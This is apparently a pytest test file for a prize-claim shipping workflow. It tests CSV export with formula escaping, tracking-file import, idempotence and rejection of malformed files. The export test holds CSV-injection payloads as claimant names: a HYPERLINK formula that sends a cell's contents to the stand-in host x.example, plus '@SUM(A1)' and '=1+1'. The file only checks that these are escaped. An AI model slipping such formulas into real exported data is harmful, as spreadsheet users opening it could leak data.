"""Dispatch as logistics meets it: the shipping partner's file out, guarded against formulas, and
the partner's tracking file in, its good rows applied and its bad ones listed by line, nothing
moved backward, the same file twice changing nothing, a wrong file refused whole."""

from __future__ import annotations

import csv
import io
import json
import time
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from sqlalchemy import Engine, func, select

from server_stub.database.schema import campaigns, claim_timeline, prize_claims
from server_stub.errors import ApiError
from server_stub.prizes import claims, dispatch, tracking_file
from server_stub.prizes.documents import DocumentStore
from tests.server_stub.prizes.test_claims import documents, refused
from tests.world import World

CAMPAIGN = "ice-2026"
HEADER = "claim,carrier,tracking,delivered_on"
DAY = 86_400.0
PATH = {
    "received": (), "in_verification": ("in_verification",),
    "approved": ("in_verification", "approved"),
    "dispatched": ("in_verification", "approved", "dispatched"),
    "delivered": ("in_verification", "approved", "dispatched", "delivered"),
}  # fmt: skip
Make = Callable[..., str]


@pytest.fixture
def make(engine: Engine, tmp_path: Path) -> Make:
    return claim_maker(engine, tmp_path)


def claim_maker(engine: Engine, tmp_path: Path) -> Make:
    """A claim filed two days ago (its three documents saved) and moved to `status` by the back
    office; details given override the draft's."""
    store = DocumentStore(tmp_path / "documents")
    serials = iter(range(1, 10_000))

    def made(status: str = "approved", campaign: str = CAMPAIGN, **details: Any) -> str:
        serial = next(serials)
        values: dict[str, Any] = {
            "campaign": campaign, "serial": serial, "code": f"HV-{serial:06d}", "tier": "gold",
            "value": 500.0, "event_id": f"web-{serial}", "phone": f"+9198765{serial:05d}",
            "name": "A. Shopper", "address": "12 Lake Road\nPune 411001", "id_type": "aadhaar",
            "id_number": f"1234 5678 {serial:04d}", "consent": True,
        }  # fmt: skip
        draft = claims.ClaimDraft(**(values | details))
        filed = time.time() - 2 * DAY
        number = claims.file_claim(engine, store, draft, documents(), now=filed)
        for step in PATH[status]:
            claims.move(engine, number, step, "vera", carrier="India Post",
                        tracking=f"EE{serial:09d}IN", now=filed + 60)  # fmt: skip
        return number

    return made


def imported(engine: Engine, *lines: str, header: str = HEADER, by: str = "lou") -> dict[str, Any]:
    return dispatch.import_tracking(engine, "\n".join((header, *lines)).encode(), by)


def state(engine: Engine, number: str) -> tuple[str, str | None, str | None, str | None]:
    c = prize_claims.c
    query = select(c.status, c.carrier, c.tracking, c.delivered_on).where(c.number == number)
    with engine.connect() as conn:
        row = conn.execute(query).one()
    return row.status, row.carrier, row.tracking, row.delivered_on


def steps(engine: Engine) -> int:
    with engine.connect() as conn:
        return int(conn.execute(select(func.count()).select_from(claim_timeline)).scalar_one())


def bad_lines(result: dict[str, Any]) -> dict[int, str]:
    return {b["line"]: b["reason"] for b in result["bad"]}


def read_export(found: dispatch.Export) -> list[dict[str, str]]:
    data = found.csv_bytes()
    assert data.startswith("\ufeff".encode())  # Excel reads the winners' scripts as they are
    return list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def test_the_export_lists_approved_claims_with_every_formula_kept_as_text(
    engine: Engine, make: Make
) -> None:
    with engine.begin() as conn:  # the campaign's words for its prize
        conn.execute(campaigns.insert().values(
            id=CAMPAIGN, key="00", created=0.0,
            data=json.dumps({"id": CAMPAIGN, "tiers": [{"name": "gold", "description": "Gold coin 1 g"}]}),
        ))  # fmt: skip
    shipped = make("dispatched")
    evil = make(name='=HYPERLINK("http://x.example/?"&A1,"Click")', address="@SUM(A1)\n-12 Lake Rd")
    plain = make(name="Asha Rao", address="4 Hill St\nPune")
    make("in_verification")
    make("approved", campaign="lollies-2026")
    rows = read_export(dispatch.export(engine, CAMPAIGN))
    assert list(rows[0]) == list(dispatch.EXPORT_COLUMNS)
    assert [r["claim"] for r in rows] == [evil, plain]  # approved only, oldest approval first
    first = rows[0]
    assert first["name"] == '\'=HYPERLINK("http://x.example/?"&A1,"Click")'
    assert first["address"] == "'@SUM(A1)\n'-12 Lake Rd"  # each line a cell an import may split
    assert first["phone"].startswith("'+91")  # a phone is text, not a sum
    assert (first["tier"], first["prize"]) == ("gold", "Gold coin 1 g")
    assert (first["carrier"], first["tracking"], first["delivered_on"]) == ("", "", "")
    assert rows[1]["name"] == "Asha Rao" and rows[1]["address"] == "4 Hill St\nPune"
    on_the_way = read_export(dispatch.export(engine, CAMPAIGN, "in_transit"))
    assert [(r["claim"], r["carrier"]) for r in on_the_way] == [(shipped, "India Post")]
    assert on_the_way[0]["tracking"].startswith("EE") and on_the_way[0]["delivered_on"] == ""
    with refused(404, "not_found"):
        dispatch.export(engine, "no-such-campaign")
    with refused(422, "bad_request"):
        dispatch.export(engine, CAMPAIGN, "delivered")


def test_an_import_applies_the_good_rows_and_lists_the_bad_ones_by_line(
    world: World, tmp_path: Path
) -> None:
    engine, make = world.engine, claim_maker(world.engine, tmp_path)  # SQLite and PostgreSQL
    a, b, c, d, e, f, g, h = (make() for _ in range(8))
    waiting, rejected = make("in_verification"), make("in_verification")
    claims.move(engine, rejected, "rejected", "vera", "the invoice is of another shop")
    today = time.strftime("%Y-%m-%d", time.gmtime())
    before = steps(engine)
    result = imported(
        engine,
        f"{a},India Post,EE100000001IN,",  # 2: dispatched
        f"{b.lower().replace('-', ' ')},Blue Dart,BD-55,{today}",  # 3: dispatched and delivered
        "CL-00000000,India Post,EE1IN,",  # 4: no such claim
        f"{c},India Post,,",  # 5: missing tracking
        f"{d},India Post,EE4IN,14/03/2026",  # 6: a date as a spreadsheet may write it
        f"{e},India Post,EE5IN,2999-01-01",  # 7: in the future
        f"{waiting},India Post,EE6IN,",  # 8: not approved
        f"{rejected},India Post,EE7IN,",  # 9: rejected
        "hello,India Post,EE8IN,",  # 10: not a claim number
        f"{f},,,",  # 11: nothing to record yet
        "",  # 12: a blank line
        f"{a},India Post,EE100000001IN,",  # 13: again
        f"{g},,,{today}",  # 14: delivered before it was ever dispatched
        f"{h},DHL,3.40434E+17,",  # 15: a tracking number a spreadsheet turned into a number
    )
    assert [(x["line"], x["claim"], x["steps"]) for x in result["applied"]] == [
        (2, a, ["dispatched"]), (3, b, ["dispatched", "delivered"]),
    ]  # fmt: skip
    reasons = bad_lines(result)
    assert sorted(reasons) == [4, 5, 6, 7, 8, 9, 10, 13, 14, 15]
    assert "no claim CL-00000000" in reasons[4]
    assert reasons[5] == "carrier without a tracking number"
    assert "'14/03/2026' is not a date" in reasons[6] and "YYYY-MM-DD" in reasons[6]
    assert reasons[7] == "delivered_on 2999-01-01 is in the future"
    assert reasons[8] == "not approved yet (in verification): it is not to be shipped"
    assert reasons[9] == "rejected: it is not to be shipped"
    assert "'hello' is not a claim number" in reasons[10]
    assert reasons[13] == "listed again (first on line 2)"
    assert "not dispatched yet" in reasons[14]
    assert "shortened by a spreadsheet" in reasons[15]
    assert [(x["line"], x["claim"]) for x in result["nothing"]] == [(11, f)]
    assert (result["rows"], result["dispatched"], result["delivered"]) == (13, 2, 1)
    assert result["summary"].startswith("2 claims dispatched, 1 delivered;")
    assert "10 bad rows" in result["summary"]
    assert state(engine, a) == ("dispatched", "India Post", "EE100000001IN", None)
    assert state(engine, b) == ("delivered", "Blue Dart", "BD-55", today)
    for untouched in (c, d, e, f, g, h):
        assert state(engine, untouched)[0] == "approved"
    assert state(engine, waiting)[0] == "in_verification"
    assert steps(engine) == before + 3
    timeline = claims.show(engine, b)["timeline"]
    assert [(s["status"], s["actor"]) for s in timeline[-2:]] == [
        ("dispatched", "lou"), ("delivered", "lou"),
    ]  # fmt: skip
    assert timeline[-1]["note"] == f"delivered on {today}"  # the winner reads it


def test_a_status_never_moves_backward_and_what_is_recorded_is_never_overwritten(
    engine: Engine, make: Make
) -> None:
    number, other, third = make(), make("dispatched"), make("dispatched")
    today = time.strftime("%Y-%m-%d", time.gmtime())
    imported(engine, f"{number},India Post,EE100000001IN,{today}")
    assert state(engine, number)[0] == "delivered"
    before = steps(engine)
    yesterday = time.strftime("%Y-%m-%d", time.gmtime(time.time() - DAY))
    carrier, tracking = state(engine, other)[1:3]
    result = imported(
        engine,
        f"{number},India Post,EE100000001IN,",  # 2: delivered -> dispatched
        f"{number},India Post,EE100000001IN,{yesterday}",  # 3: another delivered date
        f"{other},DHL,D999,",  # 4: another parcel for a claim dispatched
        f"{third},,,1999-01-01",  # 5: delivered before it was filed
    )
    reasons = bad_lines(result)
    assert "would move it back to dispatched" in reasons[2] and today in reasons[2]
    assert reasons[3] == "listed again (first on line 2)"
    assert reasons[4].startswith(f"already dispatched with {carrier} {tracking}")
    assert "before the claim was filed" in reasons[5]
    assert result["applied"] == [] and steps(engine) == before
    single = imported(engine, f"{number},India Post,EE100000001IN,{yesterday}")
    assert bad_lines(single) == {
        2: f"already delivered on {today}: an import never changes a delivered date"
    }
    assert state(engine, number) == ("delivered", "India Post", "EE100000001IN", today)
    assert state(engine, other) == ("dispatched", carrier, tracking, None)
    assert state(engine, third)[0] == "dispatched"


def test_the_same_file_imported_twice_changes_nothing_the_second_time(
    engine: Engine, make: Make
) -> None:
    numbers = [make() for _ in range(3)] + [make("dispatched")]
    today = time.strftime("%Y-%m-%d", time.gmtime())
    tracking = state(engine, numbers[3])[2]
    lines = [f"{n},DHL,DH{i}," for i, n in enumerate(numbers[:2])] + [
        f"{numbers[2]},DHL,DH2,{today}", f"{numbers[3]},india post ,{tracking},{today}",
    ]  # fmt: skip
    first = imported(engine, *lines)
    assert (first["dispatched"], first["delivered"], first["bad"]) == (3, 2, [])
    after_first, kept = steps(engine), [state(engine, n) for n in numbers]
    second = imported(engine, *lines)
    assert (second["dispatched"], second["delivered"], second["bad"]) == (0, 0, [])
    assert [u["line"] for u in second["unchanged"]] == [2, 3, 4, 5]
    assert second["summary"] == (
        "Nothing changed; 4 rows already recorded (this file was imported before)."
    )
    assert steps(engine) == after_first and [state(engine, n) for n in numbers] == kept


def test_the_exported_file_filled_in_by_the_partner_imports_as_it_comes_back(
    engine: Engine, make: Make
) -> None:
    first, second = make(name="=1+1"), make()
    today = time.strftime("%Y-%m-%d", time.gmtime())

    def filled(found: dispatch.Export, fill: Callable[[dict[str, str]], None]) -> bytes:
        rows = read_export(found)
        out = io.StringIO()
        writer = csv.DictWriter(out, fieldnames=list(rows[0]))  # every column, as it came
        writer.writeheader()
        for row in rows:
            fill(row)
            writer.writerow(row)
        return ("\ufeff" + out.getvalue()).encode()  # CR LF line ends, the byte-order mark kept

    def ship(row: dict[str, str]) -> None:
        if row["claim"] == first:  # the second waits for the next van
            row["carrier"], row["tracking"] = "Blue Dart", "-77A"  # its guard comes back on export

    result = dispatch.import_tracking(
        engine, filled(dispatch.export(engine, CAMPAIGN), ship), "lou"
    )
    assert [a["claim"] for a in result["applied"]] == [first]
    # numbered as a spreadsheet shows the rows: the first's address of two lines is one row
    assert [(n["line"], n["claim"]) for n in result["nothing"]] == [(3, second)]
    assert result["bad"] == []
    on_the_way = dispatch.export(engine, CAMPAIGN, "in_transit")
    assert read_export(on_the_way)[0]["tracking"] == "'-77A"

    def deliver(row: dict[str, str]) -> None:
        row["delivered_on"] = today

    result = dispatch.import_tracking(engine, filled(on_the_way, deliver), "lou")
    assert result["bad"] == [] and result["delivered"] == 1
    assert state(engine, first) == ("delivered", "Blue Dart", "-77A", today)


@pytest.mark.parametrize(
    "encode",
    [
        lambda text: ("\ufeff" + text.replace("\n", "\r\n")).encode(),  # Excel's CSV UTF-8
        lambda text: text.replace(",", ";").encode(),  # where a comma is the decimal mark
        lambda text: text.replace(",", "\t").encode("utf-16"),  # Excel's "Unicode text"
        lambda text: text.replace("\n", "\r").encode(),  # old Mac line ends
    ],
    ids=["bom-crlf", "semicolons", "utf16-tabs", "cr"],
)
def test_a_file_is_read_as_spreadsheets_save_it(
    engine: Engine, make: Make, encode: Callable[[str], bytes]
) -> None:
    number = make()
    text = (
        f'Delivered On,Tracking,Carrier,Claim,Notes\n,EE1IN,India Post,{number},"left, at door"\n'
    )
    result = dispatch.import_tracking(engine, encode(text), "lou")
    assert result["bad"] == [] and result["applied"] == [
        {"line": 2, "claim": number, "steps": ["dispatched"]}
    ]


def test_a_file_that_is_not_a_tracking_file_is_refused_whole(
    engine: Engine, make: Make, monkeypatch: pytest.MonkeyPatch
) -> None:
    number = make()
    row = f"{number},India Post,EE1IN,"
    cases: list[tuple[bytes, int, str]] = [
        (f"number,courier,awb,date\n{row}".encode(), 422,
         "without claim, carrier, tracking, delivered_on"),
        (f"claim,carrier,tracking\n{row}".encode(), 422, "without delivered_on"),
        (f"claim,carrier,tracking,tracking,delivered_on\n{row}".encode(), 422, "'tracking' twice"),
        (b"", 422, "The file is empty"),
        (b"\r\n \r\n", 422, "The file is empty"),
        (f"{HEADER}\n\n".encode(), 422, "no rows, only its header"),
        (b"PK\x03\x04\x14\x00workbook", 422, "Save As, CSV UTF-8"),
        (f"{HEADER}\n{row}\nCL-1,Caf\xe9,X,\n".encode("latin-1"), 422, "Line 3 is not UTF-8"),
        (f"{HEADER}\n{row}\x00\n".encode(), 422, "Line 2 holds a NUL byte"),
        # a first line with a cell past csv's field limit (128 KB): said, not a server error
        (f'"{"x" * 200_000}",{HEADER}\n{row}'.encode(), 422, "The first line is not a CSV line"),
    ]  # fmt: skip
    for data, status, words in cases:
        with refused(status, "too_large" if status == 413 else "bad_tracking_file") as info:
            dispatch.import_tracking(engine, data, "lou")
        assert words in info.value.message, (data[:40], info.value.message)
    monkeypatch.setattr(tracking_file, "MAX_ROWS", 2)
    with refused(422, "bad_tracking_file") as info:
        imported(engine, row, row, row)
    assert "more than 2 rows: split it" in info.value.message
    monkeypatch.setattr(tracking_file, "MAX_BYTES", 64)
    with refused(413, "too_large"):
        imported(engine, row, row)
    assert state(engine, number)[0] == "approved"  # none of it moved anything


def test_a_claim_moved_meanwhile_is_a_bad_row_and_the_rows_beside_it_stand(
    world: World, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    engine, make = world.engine, claim_maker(world.engine, tmp_path)  # SQLite and PostgreSQL
    first, raced, halfway, last = make(), make(), make(), make()
    read, move_in = dispatch._states, claims.move_in
    today = time.strftime("%Y-%m-%d", time.gmtime())

    def then_someone_dispatches(engine_: Engine, numbers: list[str]) -> Any:
        found = read(engine_, numbers)  # as the file was read; then the claim moves
        claims.move(engine, raced, "dispatched", "dan", carrier="DHL", tracking="D1")
        return found

    def failing_at_delivery(conn: Any, number: str, status: str, *args: Any, **kw: Any) -> Any:
        if number == halfway and status == "delivered":  # its dispatch is written by then
            raise ApiError(409, "bad_move", "refused by the test")
        return move_in(conn, number, status, *args, **kw)

    monkeypatch.setattr(dispatch, "_states", then_someone_dispatches)
    monkeypatch.setattr(claims, "move_in", failing_at_delivery)
    before = steps(engine)
    result = imported(
        engine, f"{first},DHL,D0,", f"{raced},DHL,D9,", f"{halfway},DHL,D3,{today}",
        f"{last},DHL,D2,",
    )  # fmt: skip
    assert [a["claim"] for a in result["applied"]] == [first, last]
    assert "cannot move to dispatched" in bad_lines(result)[3]
    assert bad_lines(result)[4] == "refused by the test"
    assert state(engine, raced)[1:3] == ("DHL", "D1")
    assert state(engine, halfway) == ("approved", None, None, None)  # all of a row or none
    assert state(engine, first)[0] == state(engine, last)[0] == "dispatched"
    assert steps(engine) == before + 3  # the race's dispatch, then first's and last's


def test_counts_per_campaign(engine: Engine, make: Make) -> None:
    for status in ("approved", "approved", "dispatched", "delivered", "in_verification"):
        make(status)
    make("approved", campaign="lollies-2026")
    assert dispatch.counts(engine) == [
        {"campaign": "ice-2026", "approved": 2, "dispatched": 1, "delivered": 1},
        {"campaign": "lollies-2026", "approved": 1, "dispatched": 0, "delivered": 0},
    ]


def test_an_erased_winner_is_left_out_of_the_file_to_ship(engine: Engine, make: Make) -> None:
    kept, erased = make(), make()
    with engine.begin() as conn:
        conn.execute(prize_claims.update().where(prize_claims.c.number == erased)
                     .values(name="", address="", erased=time.time()))  # fmt: skip
    found = dispatch.export(engine, CAMPAIGN)
    assert [r["claim"] for r in read_export(found)] == [kept] and found.left_out == 1


def test_a_wrong_actor_is_refused_before_anything_moves(engine: Engine, make: Make) -> None:
    number = make()
    with refused(422, "bad_claim") as info:
        imported(engine, f"{number},DHL,D1,", by="  ")
    assert info.value.message == "Give who imports the file."
    assert state(engine, number)[0] == "approved"
